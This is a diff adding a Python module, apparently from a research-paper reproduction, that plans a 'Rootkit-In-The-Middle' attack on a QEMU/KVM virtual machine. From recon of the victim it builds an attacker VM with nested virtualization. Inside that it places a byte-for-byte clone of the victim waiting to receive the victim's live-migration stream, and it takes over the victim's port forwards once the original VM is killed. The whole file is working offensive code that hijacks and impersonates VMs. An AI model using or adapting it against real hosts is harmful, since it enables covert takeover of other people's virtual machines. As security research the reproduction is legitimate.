@@ -1,0 +1,121 @@
+"""Planning the Rootkit-In-The-Middle VM pair.
+
+From a recon report, derive:
+
+* **GuestX** — the RITM: enough memory to host the victim plus the
+  attacker's own hypervisor stack, VMX exposed into the guest
+  (``-cpu host,+vmx``), *no* victim port-forwards yet (they are taken
+  over only after the original VM dies), and its own monitor.
+* **the nested destination** — a VM *inside GuestX* whose
+  machine-visible configuration matches the victim's exactly (live
+  migration requires it), paused in ``-incoming`` state on
+  ROOTKIT_PORT_BBBB.
+* the forwarding relationship: HOST_PORT_AAAA on the host forwards into
+  GuestX's BBBB, which is where the victim's migration stream lands —
+  the paper's port choreography verbatim.
+"""
+
+from repro.errors import RootkitError
+from repro.qemu.config import DriveSpec, MonitorSpec, QemuConfig
+
+#: Extra RAM GuestX carries beyond the victim's, for its own OS + QEMU.
+RITM_EXTRA_MEMORY_MB = 1024
+#: Default port choreography (the numbers are irrelevant — §IV-A — but
+#: the AAAA->BBBB relationship is crucial).
+HOST_PORT_AAAA = 18444
+ROOTKIT_PORT_BBBB = 4444
+GUESTX_MONITOR_PORT = 15555
+NESTED_MONITOR_PORT = 5556
+
+
+class RitmPlan:
+    """The pair of configs plus the port choreography."""
+
+    def __init__(
+        self,
+        guestx_config,
+        nested_config,
+        host_port_aaaa,
+        rootkit_port_bbbb,
+        victim_hostfwds,
+    ):
+        self.guestx_config = guestx_config
+        self.nested_config = nested_config
+        self.host_port_aaaa = host_port_aaaa
+        self.rootkit_port_bbbb = rootkit_port_bbbb
+        #: The victim's original forwards, to be taken over post-kill.
+        self.victim_hostfwds = victim_hostfwds
+
+    def __repr__(self):
+        return (
+            f"<RitmPlan guestx={self.guestx_config.name} "
+            f"AAAA={self.host_port_aaaa} BBBB={self.rootkit_port_bbbb}>"
+        )
+
+
+def plan_ritm(
+    recon_report,
+    guestx_name="guestx",
+    nested_name=None,
+    guestx_image="/var/lib/images/guestx.qcow2",
+    nested_image="/srv/images/nested.qcow2",
+    host_port_aaaa=HOST_PORT_AAAA,
+    rootkit_port_bbbb=ROOTKIT_PORT_BBBB,
+):
+    """Derive the RITM plan from recon of the victim."""
+    victim = recon_report.config
+    if victim is None:
+        raise RootkitError("recon report carries no victim config")
+    if not victim.enable_kvm:
+        raise RootkitError(
+            "victim runs without KVM; the RITM technique targets "
+            "hardware-virtualized guests"
+        )
+
+    guestx_config = QemuConfig(
+        name=guestx_name,
+        memory_mb=victim.memory_mb + RITM_EXTRA_MEMORY_MB,
+        smp=victim.smp,
+        drives=[DriveSpec(guestx_image)],
+        nics=[_control_nic(victim)],
+        monitor=MonitorSpec(port=GUESTX_MONITOR_PORT),
+        enable_kvm=True,
+        cpu_model=victim.cpu_model,
+        nested_vmx=True,
+    )
+
+    # The nested VM impersonates the victim byte-for-byte where it
+    # matters: memory, vCPUs, device types; it keeps the victim's
+    # guest-port forwards (they bind on GuestX's node, no collision).
+    nested = victim.clone_for_destination(
+        nested_name or victim.name,
+        monitor_port=NESTED_MONITOR_PORT,
+        incoming_port=rootkit_port_bbbb,
+        keep_hostfwds=True,
+    )
+    nested.drives = [
+        DriveSpec(nested_image, d.interface, d.fmt) for d in victim.drives
+    ]
+
+    mismatches = victim.mismatches(nested)
+    if mismatches:
+        raise RootkitError(
+            f"nested destination would not accept the migration: {mismatches}"
+        )
+    return RitmPlan(
+        guestx_config,
+        nested,
+        host_port_aaaa,
+        rootkit_port_bbbb,
+        victim_hostfwds=[
+            tuple(entry) for nic in victim.nics for entry in nic.hostfwds
+        ],
+    )
+
+
+def _control_nic(victim_config):
+    """GuestX's NIC: same model as the victim's, no forwards yet."""
+    from repro.qemu.config import NicSpec
+
+    model = victim_config.nics[0].model if victim_config.nics else "virtio-net-pci"
+    return NicSpec(netdev_id="net0", model=model, hostfwds=[])
